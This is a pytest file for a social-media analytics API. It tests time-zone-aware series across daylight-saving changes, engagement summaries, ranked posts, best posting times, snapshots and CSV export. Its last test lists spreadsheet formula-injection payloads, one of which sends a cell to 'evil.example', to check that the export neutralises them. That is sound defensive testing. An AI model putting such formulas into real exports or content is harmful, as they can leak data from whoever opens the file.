"""GET /v1/analytics/…: series in a timezone, summaries, ranked posts, best times, snapshots, and CSV."""

from __future__ import annotations

import csv
import io
import uuid
from datetime import UTC, date, datetime, timedelta
from typing import Any
from zoneinfo import ZoneInfo

import pytest
from flask.testing import FlaskClient

from shared.bootstrap import Services
from shared.channels.models import Channel
from shared.db import utcnow
from shared.deliveries.models import Delivery, DeliveryState
from shared.metrics.models import ChannelSnapshot, DeliveryMetrics, EngagementHour, MetricSample
from shared.posts.models import Post, PostLabel
from shared.workspaces.models import Workspace
from tests.factories import make_channel, make_post, make_workspace

PARIS = ZoneInfo("Europe/Paris")
# Paris moves its clocks forward at 02:00 on Sunday 29 March 2026, and back at 03:00 on 25 October.
SPRING_FORWARD = date(2026, 3, 29)


def utc(*args: int) -> datetime:
    return datetime(*args, tzinfo=UTC)


def add_hour(services: Services, channel: Channel, hour: datetime, **counts: int) -> None:
    """What the channel's posts gained in one hour of observation, as collections add it up."""
    with services.sessions.begin() as session:
        session.add(
            EngagementHour(
                channel_id=channel.id,
                hour=hour,
                workspace_id=channel.workspace_id,
                network=channel.network,
                **counts,
            )
        )


def add_published(
    services: Services,
    workspace: Workspace,
    channel: Channel,
    at: datetime,
    *,
    text: str = "A post",
    labels: tuple[str, ...] = (),
    **counts: int,
) -> Post:
    """A post published on the channel at `at`, with these latest counts."""
    post = make_post(services, workspace, [channel], text=text, scheduled_at=utcnow() + timedelta(days=3))
    interactions = sum(value for name, value in counts.items() if name != "views")
    with services.sessions.begin() as session:
        delivery = session.get_one(Delivery, post.deliveries[0].id)
        delivery.state, delivery.published_at = DeliveryState.PUBLISHED, at
        delivery.external_id = uuid.uuid4().hex
        session.add(
            DeliveryMetrics(
                delivery_id=delivery.id,
                workspace_id=workspace.id,
                post_id=post.id,
                channel_id=channel.id,
                network=channel.network,
                published_at=at,
                collected_at=at + timedelta(days=1),
                interactions=interactions,
                **counts,
            )
        )
        session.add_all(PostLabel(post_id=post.id, name=label) for label in labels)
    return post


def add_sample(services: Services, post: Post, at: datetime, **counts: int) -> None:
    with services.sessions.begin() as session:
        session.add(MetricSample(delivery_id=post.deliveries[0].id, collected_at=at, raw={}, **counts))


def add_snapshot(services: Services, channel: Channel, day: date, followers: int) -> None:
    with services.sessions.begin() as session:
        session.add(
            ChannelSnapshot(
                channel_id=channel.id,
                day=day,
                taken_at=datetime.combine(day, datetime.min.time(), UTC),
                followers=followers,
                raw={},
            )
        )


def get(client: FlaskClient, path: str, **query: Any) -> Any:
    response = client.get(path, query_string=query)
    assert response.status_code == 200, response.json
    return response.json


def read_csv(client: FlaskClient, path: str, **query: Any) -> list[dict[str, str]]:
    response = client.get(path, query_string=query, headers={"Accept": "text/csv"})
    assert response.status_code == 200, response.data
    assert response.mimetype == "text/csv"
    assert response.headers["Vary"] == "Accept"
    text = response.data.decode("utf-8")
    assert text.startswith("\ufeff")
    return list(csv.DictReader(io.StringIO(text.removeprefix("\ufeff"))))


def likes_by_start(series: dict[str, Any]) -> dict[str, int | None]:
    return {point["start"]: point["likes"] for point in series["points"]}


# -- Series ----------------------------------------------------------------------------------------------


def test_a_daily_series_in_paris_splits_days_at_paris_midnight_across_the_change_to_summer_time(
    workspace_client: FlaskClient, services: Services, channel: Channel
) -> None:
    add_hour(services, channel, utc(2026, 3, 28, 22), likes=1)  # 23:00 on the 28th in Paris (UTC+1)
    add_hour(services, channel, utc(2026, 3, 28, 23), likes=2)  # midnight: the 29th
    add_hour(services, channel, utc(2026, 3, 29, 21), likes=4)  # 23:00 on the 29th (UTC+2 by then)
    add_hour(services, channel, utc(2026, 3, 29, 22), likes=8)  # midnight: the 30th

    paris = get(
        workspace_client,
        "/v1/analytics/series",
        **{"from": "2026-03-28T00:00", "to": "2026-03-31T00:00"},
        tz="Europe/Paris",
    )
    in_utc = get(
        workspace_client, "/v1/analytics/series", **{"from": "2026-03-28T00:00", "to": "2026-03-31T00:00"}
    )

    assert likes_by_start(paris) == {
        "2026-03-28T00:00:00+01:00": 1,
        "2026-03-29T00:00:00+01:00": 6,
        "2026-03-30T00:00:00+02:00": 8,
    }
    [_, spring_day, _] = paris["points"]
    assert spring_day["end"] == "2026-03-30T00:00:00+02:00"
    length = datetime.fromisoformat(spring_day["end"]) - datetime.fromisoformat(spring_day["start"])
    assert length == timedelta(hours=23)
    assert likes_by_start(in_utc) == {
        "2026-03-28T00:00:00+00:00": 3,
        "2026-03-29T00:00:00+00:00": 12,
        "2026-03-30T00:00:00+00:00": 0,
    }
    assert paris["totals"]["likes"] == in_utc["totals"]["likes"] == 15
    assert (paris["timezone"], paris["bucket"], paris["source"]) == ("Europe/Paris", "day", "rollups")


def test_an_hourly_series_in_paris_has_no_2_am_on_the_day_clocks_go_forward(
    workspace_client: FlaskClient, services: Services, channel: Channel
) -> None:
    add_hour(services, channel, utc(2026, 3, 29, 1), likes=5)  # 03:00 CEST: the hour after the gap

    series = get(
        workspace_client,
        f"/v1/analytics/channels/{channel.id}/series",
        **{"from": "2026-03-29T00:00", "to": "2026-03-29T05:00"},
        tz="Europe/Paris",
        bucket="hour",
    )

    assert likes_by_start(series) == {
        "2026-03-29T00:00:00+01:00": 0,
        "2026-03-29T01:00:00+01:00": 0,
        "2026-03-29T03:00:00+02:00": 5,
        "2026-03-29T04:00:00+02:00": 0,
    }


def test_a_daily_series_has_a_25_hour_day_when_clocks_go_back_and_weeks_start_on_monday(
    workspace_client: FlaskClient, services: Services, channel: Channel
) -> None:
    add_hour(services, channel, utc(2026, 10, 25, 22), likes=1)  # 23:00 CET on Sunday the 25th
    add_hour(services, channel, utc(2026, 10, 25, 23), likes=2)  # Monday the 26th

    days = get(
        workspace_client,
        "/v1/analytics/series",
        **{"from": "2026-10-25T00:00", "to": "2026-10-27T00:00"},
        tz="Europe/Paris",
    )
    weeks = get(
        workspace_client,
        "/v1/analytics/series",
        **{"from": "2026-10-21T00:00", "to": "2026-10-27T00:00"},
        tz="Europe/Paris",
        bucket="week",
    )

    autumn_day = days["points"][0]
    assert (autumn_day["start"], autumn_day["end"], autumn_day["likes"]) == (
        "2026-10-25T00:00:00+02:00",
        "2026-10-26T00:00:00+01:00",
        1,
    )
    assert likes_by_start(weeks) == {"2026-10-19T00:00:00+02:00": 1, "2026-10-26T00:00:00+01:00": 2}


def test_a_metric_no_channel_reports_is_null_in_every_point_and_one_reported_is_zero_where_nothing_came(
    workspace_client: FlaskClient, services: Services, channel: Channel
) -> None:
    add_hour(services, channel, utc(2026, 5, 4, 10), likes=3)

    series = get(
        workspace_client, "/v1/analytics/series", **{"from": "2026-05-03T00:00Z", "to": "2026-05-05T00:00Z"}
    )

    assert [(p["likes"], p["views"], p["interactions"]) for p in series["points"]] == [
        (0, None, 0),
        (3, None, 3),
    ]


def test_a_series_can_be_narrowed_to_one_network_and_never_shows_another_workspace(
    workspace_client: FlaskClient, services: Services, workspace: Workspace, channel: Channel
) -> None:
    mastodon = make_channel(services, workspace, "Mastodon-like", network="sandbox")
    with services.sessions.begin() as session:
        session.get_one(Channel, mastodon.id).network = "mastodon"
    add_hour(services, channel, utc(2026, 5, 4, 10), likes=3)
    add_hour(services, session_channel(services, mastodon.id), utc(2026, 5, 4, 10), likes=40)
    theirs, _ = make_workspace(services, "Someone else")
    add_hour(services, make_channel(services, theirs), utc(2026, 5, 4, 10), likes=500)
    period = {"from": "2026-05-04T00:00Z", "to": "2026-05-05T00:00Z"}

    everything = get(workspace_client, "/v1/analytics/series", **period)
    sandbox_only = get(workspace_client, "/v1/analytics/series", **period, network="sandbox")

    assert everything["totals"]["likes"] == 43
    assert sandbox_only["totals"]["likes"] == 3


def session_channel(services: Services, channel_id: uuid.UUID) -> Channel:
    with services.sessions() as session:
        return session.get_one(Channel, channel_id)


def test_a_post_s_and_a_label_s_series_come_from_the_samples_each_gain_counted_once(
    workspace_client: FlaskClient, services: Services, workspace: Workspace, channel: Channel
) -> None:
    spring = add_published(services, workspace, channel, utc(2026, 5, 1, 9), labels=("spring",), likes=9)
    other = add_published(services, workspace, channel, utc(2026, 5, 1, 9), labels=("spring",), likes=1)
    add_published(services, workspace, channel, utc(2026, 5, 1, 9), labels=("autumn",), likes=50)
    add_sample(services, spring, utc(2026, 5, 1, 9, 15), likes=2)
    add_sample(services, spring, utc(2026, 5, 1, 10, 0), likes=2)  # read again: nothing gained
    add_sample(services, spring, utc(2026, 5, 2, 9, 0), likes=9)
    add_sample(services, other, utc(2026, 5, 2, 9, 0), likes=1)
    period = {"from": "2026-05-01T00:00Z", "to": "2026-05-03T00:00Z"}

    post_series = get(workspace_client, f"/v1/analytics/posts/{spring.id}/series", **period)
    label_series = get(workspace_client, "/v1/analytics/series", **period, label="spring")

    assert post_series["source"] == "samples"
    assert likes_by_start(post_series) == {"2026-05-01T00:00:00+00:00": 2, "2026-05-02T00:00:00+00:00": 7}
    assert likes_by_start(label_series) == {"2026-05-01T00:00:00+00:00": 2, "2026-05-02T00:00:00+00:00": 8}


def test_another_workspace_s_channel_or_post_answers_404(
    workspace_client: FlaskClient, services: Services
) -> None:
    theirs, _ = make_workspace(services, "Someone else")
    channel = make_channel(services, theirs)
    post = make_post(services, theirs, [channel])

    for path in (
        f"/v1/analytics/channels/{channel.id}/series",
        f"/v1/analytics/channels/{channel.id}/best-times",
        f"/v1/analytics/channels/{channel.id}/snapshots",
        f"/v1/analytics/posts/{post.id}/series",
    ):
        assert workspace_client.get(path).status_code == 404, path
    for path in ("/v1/analytics/summary", "/v1/analytics/posts"):
        assert workspace_client.get(path, query_string={"channel_id": str(channel.id)}).status_code == 404


@pytest.mark.parametrize(
    ("query", "parameter"),
    [
        ({"tz": "Paris"}, "/tz"),
        ({"from": "2026-05-02T00:00Z", "to": "2026-05-01T00:00Z"}, "/to"),
        ({"from": "2020-01-01T00:00Z", "to": "2026-01-01T00:00Z", "bucket": "hour"}, "/bucket"),
    ],
)
def test_an_impossible_period_is_a_422_naming_what_to_change(
    workspace_client: FlaskClient, query: dict[str, str], parameter: str
) -> None:
    response = workspace_client.get("/v1/analytics/series", query_string=query)

    assert response.status_code == 422
    assert [error["pointer"] for error in response.json["errors"]] == [parameter]


# -- Summary and ranked posts ----------------------------------------------------------------------------


def test_the_summary_rates_engagement_over_views_where_the_channels_report_views(
    workspace_client: FlaskClient, services: Services, workspace: Workspace, channel: Channel
) -> None:
    add_hour(services, channel, utc(2026, 5, 4, 10), likes=30, reposts=10, views=2000)
    add_published(services, workspace, channel, utc(2026, 5, 4, 9), text="Best", likes=30, views=2000)
    add_published(services, workspace, channel, utc(2026, 5, 4, 8), text="Second", likes=10)
    add_snapshot(services, channel, date(2026, 5, 4), followers=100)  # not used: views are known

    summary = get(
        workspace_client, "/v1/analytics/summary", **{"from": "2026-05-01T00:00Z", "to": "2026-06-01T00:00Z"}
    )

    assert summary["totals"] == {
        "likes": 30,
        "reposts": 10,
        "replies": None,
        "quotes": None,
        "bookmarks": None,
        "views": 2000,
        "clicks": None,
        "interactions": 40,
    }
    assert summary["engagement_rate"] == {
        "value": 0.02,
        "basis": "views",
        "definition": "interactions ÷ views, over the channels that report views",
        "interactions": 40,
        "denominator": 2000,
        "channels": 1,
    }
    assert summary["posts_published"] == 2
    assert [post["text"] for post in summary["top_posts"]] == ["Best", "Second"]


def test_without_views_the_summary_rates_engagement_over_followers_at_the_end_of_the_period(
    workspace_client: FlaskClient, services: Services, channel: Channel
) -> None:
    add_hour(services, channel, utc(2026, 5, 4, 10), likes=12, replies=3)
    add_snapshot(services, channel, date(2026, 4, 20), followers=300)
    add_snapshot(services, channel, date(2026, 5, 31), followers=500)  # the latest by the end of May
    add_snapshot(services, channel, date(2026, 6, 10), followers=900)  # after it

    summary = get(
        workspace_client, "/v1/analytics/summary", **{"from": "2026-05-01T00:00Z", "to": "2026-06-01T00:00Z"}
    )

    rate = summary["engagement_rate"]
    assert (rate["value"], rate["basis"], rate["interactions"], rate["denominator"]) == (
        0.03,
        "followers",
        15,
        500,
    )
    assert "followers" in rate["definition"]


def test_without_views_or_followers_the_summary_gives_no_rate_and_says_why(
    workspace_client: FlaskClient, services: Services, channel: Channel
) -> None:
    add_hour(services, channel, utc(2026, 5, 4, 10), likes=12)

    rate = get(
        workspace_client, "/v1/analytics/summary", **{"from": "2026-05-01T00:00Z", "to": "2026-06-01T00:00Z"}
    )["engagement_rate"]

    assert (rate["value"], rate["basis"]) == (None, None)
    assert rate["definition"].startswith("no views and no follower counts")


def test_ranked_posts_come_most_interactions_first_a_page_at_a_time(
    workspace_client: FlaskClient, services: Services, workspace: Workspace, channel: Channel
) -> None:
    likes = [5, 40, 40, 7, 12]
    for number, count in enumerate(likes):
        add_published(
            services, workspace, channel, utc(2026, 5, 1 + number, 9), text=f"Post {number}", likes=count
        )
    period = {"from": "2026-05-01T00:00Z", "to": "2026-06-01T00:00Z"}

    seen: list[int] = []
    cursor = None
    pages = 0
    while True:
        page = get(
            workspace_client,
            "/v1/analytics/posts",
            **period,
            limit=2,
            **({"cursor": cursor} if cursor else {}),
        )
        seen += [post["interactions"] for post in page["items"]]
        pages += 1
        cursor = page["next_cursor"]
        if cursor is None:
            break

    assert seen == sorted(likes, reverse=True)
    assert pages == 3
    bad = workspace_client.get("/v1/analytics/posts", query_string={"cursor": "not-a-cursor"})
    assert bad.status_code == 422


# -- Best times --------------------------------------------------------------------------------------------


def test_best_times_grid_is_on_the_channel_s_clock_with_sample_sizes_and_suggests_slots_for_the_queue(
    workspace_client: FlaskClient, services: Services, workspace: Workspace
) -> None:
    channel = make_channel(services, workspace, "Paris desk", timezone="Europe/Paris")
    now = utcnow()

    def local_times(weekday: int, hour: int, count: int) -> list[datetime]:
        """`count` past moments at that weekday and hour in Paris, at least two weeks ago."""
        day = (now - timedelta(days=14)).astimezone(PARIS).date()
        while day.weekday() != weekday:
            day -= timedelta(days=1)
        return [
            datetime(day.year, day.month, day.day, hour, 5, tzinfo=PARIS) - timedelta(weeks=week)
            for week in range(count)
        ]

    for moment in local_times(1, 9, 3):  # Tuesdays at 09:05
        add_published(services, workspace, channel, moment.astimezone(UTC), likes=30, views=600)
    for moment in local_times(3, 18, 4):  # Thursdays at 18:05
        add_published(services, workspace, channel, moment.astimezone(UTC), likes=10, views=1000)
    for moment in local_times(0, 12, 1):  # one Monday: a hit, but one post says little
        add_published(services, workspace, channel, moment.astimezone(UTC), likes=500)
    add_published(services, workspace, channel, now - timedelta(days=2), likes=1000)  # too young to count

    found = get(workspace_client, f"/v1/analytics/channels/{channel.id}/best-times", suggestions=2)

    cells = {(cell["weekday"], cell["hour"]): cell for cell in found["cells"]}
    assert set(cells) == {("tue", 9), ("thu", 18), ("mon", 12)}
    assert (cells[("tue", 9)]["posts"], cells[("tue", 9)]["mean_interactions"]) == (3, 30.0)
    assert cells[("tue", 9)]["engagement_rate"] == 0.05
    assert (cells[("thu", 18)]["posts"], cells[("mon", 12)]["posts"]) == (4, 1)
    assert found["posts"] == 8
    assert found["timezone"] == "Europe/Paris"
    assert [(s["weekday"], s["hour"]) for s in found["suggestions"]] == [("tue", 9), ("thu", 18)]
    next_tuesday = datetime.fromisoformat(found["suggestions"][0]["next_at"])
    assert (next_tuesday.astimezone(PARIS).weekday(), next_tuesday.astimezone(PARIS).hour) == (1, 9)
    assert next_tuesday > now
    assert next_tuesday.utcoffset() == next_tuesday.astimezone(PARIS).utcoffset()
    schedule = found["posting_schedule"]
    assert (schedule["tue"], schedule["thu"], schedule["mon"]) == (["09:00"], ["18:00"], [])

    patched = workspace_client.patch(f"/v1/channels/{channel.id}", json={"posting_schedule": schedule})
    assert patched.status_code == 200, patched.json
    assert patched.json["posting_schedule"] == schedule


# -- Snapshots and CSV ---------------------------------------------------------------------------------------


def test_a_channel_s_snapshots_are_listed_oldest_first(
    workspace_client: FlaskClient, services: Services, channel: Channel
) -> None:
    add_snapshot(services, channel, date(2026, 5, 2), followers=110)
    add_snapshot(services, channel, date(2026, 5, 1), followers=100)
    add_snapshot(services, channel, date(2026, 1, 1), followers=1)

    listed = get(
        workspace_client,
        f"/v1/analytics/channels/{channel.id}/snapshots",
        **{"from": "2026-04-01", "to": "2026-05-31"},
    )

    assert [(s["day"], s["followers"]) for s in listed["items"]] == [("2026-05-01", 100), ("2026-05-02", 110)]


def test_every_series_summary_ranking_grid_and_snapshot_list_is_also_a_csv_table(
    workspace_client: FlaskClient, services: Services, workspace: Workspace, channel: Channel
) -> None:
    add_hour(services, channel, utc(2026, 5, 4, 10), likes=3, views=90)
    post = add_published(
        services, workspace, channel, utc(2026, 5, 4, 9), text="Hello, «world»", likes=3, views=90
    )
    add_sample(services, post, utc(2026, 5, 4, 10), likes=3, views=90)
    add_snapshot(services, channel, date(2026, 5, 4), followers=10)
    period = {"from": "2026-05-04T00:00", "to": "2026-05-06T00:00", "tz": "Europe/Paris"}

    series = read_csv(workspace_client, "/v1/analytics/series", **period)
    channel_series = read_csv(workspace_client, f"/v1/analytics/channels/{channel.id}/series", **period)
    post_series = read_csv(workspace_client, f"/v1/analytics/posts/{post.id}/series", **period)
    [summary] = read_csv(workspace_client, "/v1/analytics/summary", **period)
    [ranked] = read_csv(workspace_client, "/v1/analytics/posts", **period)
    [cell] = read_csv(workspace_client, f"/v1/analytics/channels/{channel.id}/best-times", days=730)
    [snapshot] = read_csv(
        workspace_client, f"/v1/analytics/channels/{channel.id}/snapshots", **{"from": "2026-05-01"}
    )

    assert series == channel_series == post_series
    assert [(row["start"], row["likes"], row["views"], row["replies"]) for row in series] == [
        ("2026-05-04T00:00:00+02:00", "3", "90", ""),
        ("2026-05-05T00:00:00+02:00", "0", "0", ""),
    ]
    assert (summary["interactions"], summary["engagement_rate"], summary["engagement_rate_basis"]) == (
        "3",
        str(3 / 90),
        "views",
    )
    assert (ranked["post_id"], ranked["text"], ranked["interactions"]) == (
        str(post.id),
        "Hello, «world»",
        "3",
    )
    assert cell == {
        "weekday": "mon",
        "hour": "9",  # 09:00 UTC is 11:00 in Paris, but the channel's clock is UTC
        "posts": "1",
        "mean_interactions": "3.0",
        "engagement_rate": str(3 / 90),
        "suggested_next_at": "",  # one post is too few to suggest the slot
    }
    assert (snapshot["day"], snapshot["followers"], snapshot["following"]) == ("2026-05-04", "10", "")
    assert workspace_client.get("/v1/analytics/series", query_string=period).mimetype == "application/json"


def test_a_post_text_that_a_spreadsheet_would_run_is_a_quoted_cell_in_the_csv(
    workspace_client: FlaskClient, services: Services, workspace: Workspace, channel: Channel
) -> None:
    formulas = ['=HYPERLINK("https://evil.example/?"&A1,"Open")', "+1", "-2+3", "@SUM(1)", "\tTab", "\rCR"]
    for hour, text in enumerate(formulas):
        add_published(services, workspace, channel, utc(2026, 5, 4, 9 + hour), text=text, likes=hour, views=9)
    period = {"from": "2026-05-04T00:00", "to": "2026-05-06T00:00", "tz": "UTC"}

    ranked = read_csv(workspace_client, "/v1/analytics/posts", **period)

    assert sorted(row["text"] for row in ranked) == sorted("'" + text for text in formulas)
    assert {row["likes"] for row in ranked} == {str(hour) for hour in range(len(formulas))}, "numbers stay"
